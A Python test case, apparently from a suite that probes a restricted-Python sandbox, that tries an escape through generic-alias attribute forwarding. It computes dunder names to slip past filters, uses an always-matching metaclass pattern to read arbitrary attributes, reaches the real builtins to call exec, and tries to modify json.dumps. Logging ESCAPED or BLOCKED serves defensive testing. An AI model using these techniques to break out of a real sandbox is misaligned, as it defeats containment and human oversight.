# id: attr-generic-alias-forward
# technique: a generic alias passes every attribute on to its origin, past the guard that asks whose class it is
# layer: python
# goal: capability
# success_marker: ESCAPED


U = chr(95) * 2


def prove_globals(ctx, id, g):
    """a function's globals lead to the real builtins"""
    b = g[U + 'builtins' + U]
    run = b['exec'] if isinstance(b, dict) else getattr(b, 'exec')
    ns = {}
    run('x = 6 * 7', ns)
    if ns['x'] == 42:
        ctx.log.info('ESCAPED ' + id + ': real builtins')


def peek(obj, name):
    """reads any attribute through a class pattern whose names are computed"""
    meta = type('Meta', (type,), {U + 'instancecheck' + U: lambda cls, o: True})
    any_class = meta('Any', (), {U + 'match_args' + U: (name,)})
    match obj:
        case any_class(found):
            return found
    raise ValueError('nothing under ' + name)


def attempt(ctx):
    import json
    alias = type(list[int])
    found = []
    for target in (Exception, json.JSONEncoder, type(ctx.log), json.dumps, int):
        wrapped = alias(target, (int,))
        for read in (
            lambda: wrapped.__subclasses__(),
            lambda: wrapped.__mro__ if target is not int else None,
            lambda: wrapped.__dict__,
            lambda: wrapped.__defaults__,
            lambda: getattr(wrapped, U + 'globals' + U),
            lambda: wrapped.__getattribute__(U + 'kwdefaults' + U),
            lambda: wrapped.__setattr__('planted', 1) or json.dumps.planted,
        ):
            try:
                got = read()
            except Exception:
                continue
            if got is not None:
                found.append(got)
    if found:
        ctx.log.info('ESCAPED attr-generic-alias-forward: ' + repr(found)[:120])
    raise ValueError('refused everywhere')


def tick(ctx):
    try:
        attempt(ctx)
    except Exception as e:
        ctx.log.info('BLOCKED attr-generic-alias-forward: ' + repr(e)[:160])
    ctx.log.info('DONE attr-generic-alias-forward')
